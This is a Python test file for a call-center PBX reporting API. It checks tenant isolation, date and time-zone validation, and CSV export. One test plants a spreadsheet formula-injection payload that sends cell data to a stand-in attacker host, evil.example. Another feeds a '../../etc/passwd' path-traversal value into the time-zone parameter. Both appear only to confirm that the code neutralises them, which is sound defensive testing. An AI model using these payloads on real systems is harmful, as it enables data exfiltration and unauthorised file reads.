"""/api/reports: a period's figures for the caller's tenant only, as JSON and as CSV files."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

from web_world import World

from pbx_stasis.acd.directory import AcdDirectory
from pbx_stasis.store.tables import CallEvent, Role, User
from pbx_stasis.web.csvfile import csv_text, spreadsheet_cell

CALL = "a" * 32  # acme's call in the seeded world (globex has "c" * 32)


async def _journal(world: World, tenant: str, call_id: str, *rows: tuple[str, int, dict[str, Any]],
                   agent: int | None = None) -> None:
    async with world.db.transaction() as tx:
        for event, minute, data in rows:
            tx.add(CallEvent(
                at=datetime(2026, 11, 23, 8, minute, tzinfo=UTC),
                tenant_id=world.tenant_ids[tenant], call_id=call_id,
                agent_user_id=agent if event != "ENTERQUEUE" else None,
                queue="support", event=event, data=data,
            ))


async def test_a_manager_reads_their_tenants_day(world: World) -> None:
    agent = world.person("acme", Role.AGENT)
    await AcdDirectory(world.db).save_queue(world.tenant_ids["acme"], "support",
                                            {"service_level": 10})
    await _journal(world, "acme", CALL,
                   ("ENTERQUEUE", 0, {}), ("OFFER", 0, {}), ("CONNECT", 0, {"wait": 15.0}),
                   ("COMPLETEAGENT", 2, {"wait": 15.0, "talk": 90.0}), agent=agent.user_id)
    await _journal(world, "globex", "c" * 32, ("ENTERQUEUE", 5, {}), ("ABANDON", 6, {"wait": 50}))
    manager = await world.log_in(world.person("acme", Role.MANAGER))

    response = await world.request(manager, "GET", "/api/reports?from=2026-11-23")
    assert response.status == 200
    report = await response.json()
    assert (report["from"], report["to"]) == ("2026-11-23", "2026-11-23")
    [support] = report["queues"]  # globex's abandoned call is not acme's
    assert (support["offered"], support["answered"], support["abandoned"]) == (1, 1, 0)
    assert (support["service_level"], support["service_level_seconds"]) == (0.0, 10.0)
    [row] = report["agents"]
    assert (row["agent_user_id"], row["answered"], row["talk"]) == (agent.user_id, 1, 90.0)
    assert row["name"]
    assert report["hours"][8]["offered"] == 1
    assert report["days"] == [{"day": "2026-11-23", "offered": 1, "answered": 1, "abandoned": 0,
                               "service_level": 0.0}]

    other = await world.log_in(world.person("globex", Role.SUPERVISOR))
    theirs = await (await world.request(other, "GET", "/api/reports")).json()  # today: the 23rd
    assert [(q["queue"], q["abandoned"]) for q in theirs["queues"]] == [("support", 1)]
    assert theirs["agents"] == []

    download = await world.request(manager, "GET", "/api/reports/csv?from=2026-11-23&table=queues")
    assert download.headers["Content-Type"].startswith("text/csv")
    assert "pbx-queues-2026-11-23_2026-11-23.csv" in download.headers["Content-Disposition"]
    lines = list(csv.DictReader(io.StringIO(await download.text())))
    assert [(r["queue"], r["answered"], r["average_abandon_wait"]) for r in lines] == [
        ("support", "1", "")
    ]
    nothing = await world.request(manager, "GET", "/api/reports/csv?from=2026-11-01&table=agents")
    assert (await nothing.text()).splitlines() == [
        "agent_user_id,offered,answered,missed,transfers,talk,average_talk,wrapup,average_handle,"
        "paused,occupancy,outbound_placed,outbound_connected,outbound_talk,average_outbound_talk,"
        "quality_measured,average_mes,poor_quality,poor_quality_share,evaluations,"
        "average_evaluation,failed_evaluations,name"
    ]


async def test_a_bad_period_is_refused_with_the_field(world: World) -> None:
    manager = await world.log_in(world.person("acme", Role.MANAGER))
    cases = {
        "from=2026-11-23&to=2026-11-22": "must not be before from",
        "from=2026-01-01&to=2026-11-23": "a report covers at most 92 days",
        "from=23/11/2026": "must be a date written YYYY-MM-DD",
        "tz=Asia/Nowhere": "is not a time zone: an IANA name such as Asia/Dubai",
        "tz=../../etc/passwd": "is not a time zone: an IANA name such as Asia/Dubai",
        "table=calls": None,
    }
    for query, message in cases.items():
        path = "/api/reports/csv" if query.startswith("table") else "/api/reports"
        response = await world.request(manager, "GET", f"{path}?{query}")
        assert response.status == 400, query
        fields = (await response.json())["fields"]
        if message is not None:
            assert message in fields.values(), (query, fields)


async def test_report_csv_does_not_pass_formulas_to_spreadsheets(world: World) -> None:
    # The finding: a display name =HYPERLINK(...) reached the CSV as a live formula.
    agent = world.person("acme", Role.AGENT)
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    async with world.db.transaction() as tx:
        user = await tx.get(User, agent.user_id)
        assert user is not None
        user.display_name = hostile
    await _journal(world, "acme", CALL,
                   ("ENTERQUEUE", 0, {}), ("OFFER", 0, {}), ("CONNECT", 0, {"wait": 15.0}),
                   ("COMPLETEAGENT", 2, {"wait": 15.0, "talk": 90.0}), agent=agent.user_id)
    manager = await world.log_in(world.person("acme", Role.MANAGER))
    download = await world.request(manager, "GET", "/api/reports/csv?from=2026-11-23&table=agents")
    assert download.status == 200
    [row] = list(csv.DictReader(io.StringIO(await download.text())))
    assert row["name"] == "'" + hostile
    assert (row["agent_user_id"], row["answered"], row["talk"]) == (str(agent.user_id), "1", "90.0")


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    for text in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "-"):
        assert spreadsheet_cell(text) == "'" + text
    for value in (-3, -0.5, 0, 12.5, True, "Support", "2026-11-23", "a=b", " =text"):
        assert spreadsheet_cell(value) == value
    assert spreadsheet_cell(None) == ""
    text = csv_text(["name", "delta"], [{"name": "-x", "delta": -4}, {"name": "ok", "delta": None}])
    assert text.splitlines() == ["name,delta", "'-x,-4", "ok,"]


def test_fractions_are_written_to_three_decimals_not_as_binary_floats() -> None:
    """A report's average talk printed 25.570999999999998 (issue 13)."""
    rows = [{"aht": 25.570999999999998, "sl": 0.8571428571428571, "talk": 90.0}]
    assert csv_text(["aht", "sl", "talk"], rows).splitlines()[1] == "25.571,0.857,90.0"


async def test_the_wallboards_activity_is_the_floors_events_not_every_journal_line(
    world: World,
) -> None:
    """The snapshot listed raw codes of every row (IVR steps, playbacks, offers); now the events
    a supervisor follows, with a pause's reason, which the page words (issue 13)."""
    agent = world.person("acme", Role.AGENT)
    await _journal(world, "acme", CALL,
                   ("PLAYBACK_START", 0, {}), ("ENTERQUEUE", 0, {}), ("OFFER", 0, {}),
                   ("CONNECT", 1, {"wait": 15.0}), ("PAUSE", 3, {"reason": "lunch"}),
                   agent=agent.user_id)
    supervisor = await world.log_in(world.person("acme", Role.SUPERVISOR))
    response = await world.request(supervisor, "GET", "/api/wallboard")
    assert response.status == 200
    activity = (await response.json())["activity"]
    assert [a["event"] for a in activity] == ["PAUSE", "CONNECT", "ENTERQUEUE"]
    assert activity[0]["reason"] == "lunch" and activity[1]["reason"] is None


async def test_the_wallboard_lists_the_members_of_queues_not_every_softphone(
    world: World,
) -> None:
    """A supervisor or manager with a softphone only to listen in was listed as an agent."""
    supervisor = await world.log_in(world.person("acme", Role.SUPERVISOR))
    response = await world.request(supervisor, "GET", "/api/wallboard")
    listed = {a["user_id"]: a["member_of"] for a in (await response.json())["agents"]}
    members = {world.person("acme", role).user_id for role in (Role.AGENT, Role.SUPERVISOR)}
    assert set(listed) == members and all(queues == ["support"] for queues in listed.values())


async def test_a_report_in_the_centers_own_time_zone(world: World) -> None:
    """Issue 13: reports were UTC only. A Dubai center's day runs from its own midnight (20:00
    UTC the day before) and its hours are its own (UTC+4); India's hours start at :30 UTC."""
    agent = world.person("acme", Role.AGENT)
    await _journal(world, "acme", CALL,  # 08:00-08:02 UTC is 12:00 in Dubai
                   ("ENTERQUEUE", 0, {}), ("CONNECT", 0, {"wait": 5.0}),
                   ("COMPLETEAGENT", 2, {"wait": 5.0, "talk": 90.0}), agent=agent.user_id)
    async with world.db.transaction() as tx:  # 21:10 UTC on the 23rd: the 24th in Dubai
        tx.add(CallEvent(at=datetime(2026, 11, 23, 21, 10, tzinfo=UTC),
                         tenant_id=world.tenant_ids["acme"], call_id="b" * 32, queue="support",
                         event="ENTERQUEUE", data={}))
    world.clock.now = datetime(2026, 11, 25, 9, 0, tzinfo=UTC)  # both days are over
    manager = await world.log_in(world.person("acme", Role.MANAGER))
    dubai = await (await world.request(
        manager, "GET", "/api/reports?from=2026-11-23&tz=Asia/Dubai")).json()
    assert dubai["tz"] == "Asia/Dubai"
    assert dubai["hours"][12]["offered"] == 1 and dubai["hours"][8]["offered"] == 0
    assert [d["day"] for d in dubai["days"]] == ["2026-11-23"]  # the 21:10 call is the 24th's
    utc = await (await world.request(manager, "GET", "/api/reports?from=2026-11-23")).json()
    assert utc["tz"] == "UTC" and [d["offered"] for d in utc["days"]] == [2]
    next_day = await (await world.request(
        manager, "GET", "/api/reports?from=2026-11-24&tz=Asia/Dubai")).json()
    assert [(d["day"], d["offered"]) for d in next_day["days"]] == [("2026-11-24", 1)]
    assert next_day["hours"][1]["offered"] == 1  # 21:10 UTC is 01:10 in Dubai
    india = await (await world.request(
        manager, "GET", "/api/reports?from=2026-11-23&tz=Asia/Kolkata")).json()
    assert india["hours"][13]["offered"] == 1  # 08:00 UTC is 13:30 in India
    csv_file = await world.request(
        manager, "GET", "/api/reports/csv?from=2026-11-23&table=hours&tz=Asia/Dubai")
    assert "pbx-hours-2026-11-23_2026-11-23-Asia-Dubai.csv" in csv_file.headers[
        "Content-Disposition"]


async def test_quality_and_evaluation_scores_per_queue_and_agent(world: World) -> None:
    """Each queue's and agent's average MES (a call's worse leg), share of poor calls and
    average evaluation, counted by the call's start, beside the journal's figures."""
    from evaluation_samples import evaluation
    from sqlalchemy import update

    from pbx_stasis.evaluations.tables import EvaluationRow
    from pbx_stasis.quality.tables import CallQualityRow
    from pbx_stasis.store.tables import Call

    agent = world.person("acme", Role.AGENT)
    tenant_id = world.tenant_ids["acme"]
    day = datetime(2026, 11, 23, 8, 0, tzinfo=UTC)
    legs = [(20.0, 88.0), (90.0, 86.0), (None, None)]  # call MES 20 (poor), 86, none
    for n, (customer, agents) in enumerate(legs):
        call_id = "d" * 31 + str(n)
        await world.add_call("acme", call_id=call_id, from_number="+14155550100", agent=agent)
        await _journal(world, "acme", call_id, ("ENTERQUEUE", n, {}),
                       ("CONNECT", n, {"wait": 5.0}),
                       ("COMPLETEAGENT", n + 1, {"wait": 5.0, "talk": 60.0}),
                       agent=agent.user_id)
        async with world.db.transaction() as tx:
            await tx.execute(update(Call).where(Call.id == call_id).values(
                started_at=day, queue="support", agent_user_id=agent.user_id))
            tx.add_all(CallQualityRow(tenant_id=tenant_id, call_id=call_id, leg=leg, mes=mes,
                                      min_mes=mes, jitter_ms=1.0, lost=0, received=100,
                                      rtt_ms=0.0, at=day)
                       for leg, mes in (("customer", customer), ("agent", agents)))
    # An evaluation (86.7 %) of a call of the day, and one of a call of another day.
    scored = await evaluation(world, "acme", agent.user_id)
    await evaluation(world, "acme", agent.user_id)
    async with world.db.transaction() as tx:
        row = await tx.get(EvaluationRow, scored)
        assert row is not None
        row.queue = "support"
        await tx.execute(update(Call).where(Call.id == row.call_id).values(started_at=day))
    manager = await world.log_in(world.person("acme", Role.MANAGER))

    report = await (await world.request(manager, "GET", "/api/reports?from=2026-11-23")).json()
    [support] = report["queues"]
    [mine] = report["agents"]
    for row in (support, mine):
        assert (row["quality_measured"], row["average_mes"], row["poor_quality"],
                row["poor_quality_share"]) == (2, 53.0, 1, 0.5)
        assert (row["evaluations"], row["average_evaluation"], row["failed_evaluations"]) == (
            1, 86.7, 0)
    download = await world.request(manager, "GET", "/api/reports/csv?from=2026-11-23&table=agents")
    [line] = list(csv.DictReader(io.StringIO(await download.text())))
    assert (line["average_mes"], line["average_evaluation"]) == ("53.0", "86.7")
async def test_the_tenant_s_default_time_zone_is_the_reports_without_tz(world: World) -> None:
    """Issue 13: a tenant setting gives reports their default zone; `?tz=` still wins, and
    only an admin sets it (a bad name is a 400 on its field)."""
    agent = world.person("acme", Role.AGENT)
    await _journal(world, "acme", CALL,  # 08:00 UTC is 12:00 in Dubai
                   ("ENTERQUEUE", 0, {}), ("CONNECT", 0, {"wait": 5.0}),
                   ("COMPLETEAGENT", 2, {"wait": 5.0, "talk": 90.0}), agent=agent.user_id)
    world.clock.now = datetime(2026, 11, 25, 9, 0, tzinfo=UTC)
    manager = await world.log_in(world.person("acme", Role.MANAGER))
    admin = await world.log_in(world.person("acme", Role.ADMIN))
    settings = await (await world.request(manager, "GET", "/api/reports/settings")).json()
    assert settings == {"settings": {"timezone": None}}
    assert (await world.request(manager, "PUT", "/api/reports/settings",
                                {"timezone": "Asia/Dubai"})).status == 403
    bad = await world.request(admin, "PUT", "/api/reports/settings", {"timezone": "Mars/Base"})
    assert bad.status == 400 and "timezone" in (await bad.json())["fields"]
    saved = await world.request(admin, "PUT", "/api/reports/settings",
                                {"timezone": "Asia/Dubai"})
    assert (await saved.json())["settings"]["timezone"] == "Asia/Dubai"
    report = await (await world.request(manager, "GET", "/api/reports?from=2026-11-23")).json()
    assert report["tz"] == "Asia/Dubai" and report["hours"][12]["offered"] == 1
    utc = await (await world.request(manager, "GET", "/api/reports?from=2026-11-23&tz=UTC")).json()
    assert utc["tz"] == "UTC" and utc["hours"][8]["offered"] == 1
    # Another tenant keeps UTC.
    stranger = await world.log_in(world.person("globex", Role.MANAGER))
    theirs = await (await world.request(stranger, "GET", "/api/reports?from=2026-11-23")).json()
    assert theirs["tz"] == "UTC"
